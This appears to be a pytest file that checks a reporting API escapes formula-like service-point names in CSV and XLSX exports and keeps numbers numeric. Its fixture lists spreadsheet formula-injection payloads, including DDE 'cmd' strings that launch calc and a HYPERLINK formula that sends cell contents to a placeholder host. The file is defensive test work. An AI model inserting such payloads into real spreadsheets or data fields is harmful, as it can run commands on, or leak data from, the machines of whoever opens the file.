"""CSV and XLSX exports: text a spreadsheet would evaluate arrives as text, numbers as numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import httpx
import pytest
from openpyxl import load_workbook
from reporting.feeding import Feeder, all_nine, feedback, unit

from kinerja_shared.events.types.feedback import ServicePointUpserted

URL = "/api/v1/reporting/ikm/service-points"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Names a service point may be given, each starting the way a formula can (OWASP's list,
#: and what spreadsheets skip before looking for one).
FORMULAS = {
    "equals": '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "leading spaces": "   =1+1",
    "no-break space": "\u00a0=1+1",
    "full-width equals": "\uff1d1+1",
    "embedded quotes": '=1+2";=1+2',
}


async def _points_named(feeder: Feeder, names: list[str]) -> None:
    await feeder.send(unit("city"))
    for n, name in enumerate(names):
        await feeder.send(
            ServicePointUpserted(
                service_point_id=f"sp{n}", slug=f"sp{n}", name=name, unit_id="city"
            )
        )
        await feeder.send(feedback(f"sp{n}", "city", all_nine(3)))


async def _csv_rows(client: httpx.AsyncClient, headers: dict[str, str]) -> list[dict[str, str]]:
    response = await client.get(URL, params={"period": "2026-03", "format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


async def _xlsx_rows(client: httpx.AsyncClient, headers: dict[str, str]) -> list[dict[str, object]]:
    response = await client.get(
        URL, params={"period": "2026-03"}, headers={**headers, "Accept": XLSX}
    )
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [{str(h): c for h, c in zip(header, row, strict=True)} for row in rows[1:]]


@pytest.mark.parametrize("kind", FORMULAS)
async def test_a_csv_cell_that_would_be_a_formula_starts_with_a_single_quote(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder, kind: str
) -> None:
    await _points_named(feeder, [FORMULAS[kind]])
    (row,) = await _csv_rows(client, analyst)
    assert row["name"] == "'" + FORMULAS[kind]


@pytest.mark.parametrize("kind", FORMULAS)
async def test_an_xlsx_cell_that_would_be_a_formula_is_text_starting_with_a_single_quote(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder, kind: str
) -> None:
    await _points_named(feeder, [FORMULAS[kind]])
    (row,) = await _xlsx_rows(client, analyst)
    assert row["name"].data_type == "s"  # type: ignore[union-attr]
    # XML reads a carriage return in text back as a line feed
    assert row["name"].value == ("'" + FORMULAS[kind]).replace("\r", "\n")  # type: ignore[union-attr]


async def test_embedded_quotes_are_doubled_inside_a_quoted_csv_field(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder
) -> None:
    await _points_named(feeder, [FORMULAS["embedded quotes"]])
    response = await client.get(URL, params={"period": "2026-03", "format": "csv"}, headers=analyst)
    assert '"\'=1+2"";=1+2"' in response.text


async def test_plain_text_and_text_with_a_formula_character_later_are_left_alone(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder
) -> None:
    names = ["Loket Dukcapil", "Loket A-1 (lantai 2) = utama", "e-KTP @ Kantor Camat"]
    await _points_named(feeder, names)
    assert sorted(r["name"] for r in await _csv_rows(client, analyst)) == sorted(names)
    xlsx = await _xlsx_rows(client, analyst)
    assert sorted(str(r["name"].value) for r in xlsx) == sorted(names)  # type: ignore[union-attr]


async def test_numbers_stay_numbers_even_when_negative(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder
) -> None:
    await feeder.send(unit("city"))
    await feeder.send(
        ServicePointUpserted(service_point_id="sp", slug="sp", name="-", unit_id="city")
    )
    await feeder.send(
        feedback("sp", "city", all_nine(4), visit=date(2026, 2, 10)),
        feedback("sp", "city", all_nine(3), visit=date(2026, 3, 10)),
    )
    response = await client.get(URL, params={"period": "2026-03", "format": "csv"}, headers=analyst)
    header, line = response.text.splitlines()
    values = dict(zip(next(csv.reader([header])), line.split(","), strict=True))
    assert values["respondents"] == "1"
    assert values["change"] == "-25.00"
    (row,) = await _xlsx_rows(client, analyst)
    assert row["respondents"].value == 1  # type: ignore[union-attr]
    assert row["change"].data_type == "n"  # type: ignore[union-attr]
    assert row["change"].value == -25.0  # type: ignore[union-attr]
    assert row["name"].value == "'-"  # type: ignore[union-attr]


async def test_a_name_with_a_control_character_still_exports_as_xlsx(
    client: httpx.AsyncClient, analyst: dict[str, str], feeder: Feeder
) -> None:
    await _points_named(feeder, ["Loket\x01 Satu"])
    (row,) = await _xlsx_rows(client, analyst)
    assert row["name"].value == "Loket Satu"  # type: ignore[union-attr]
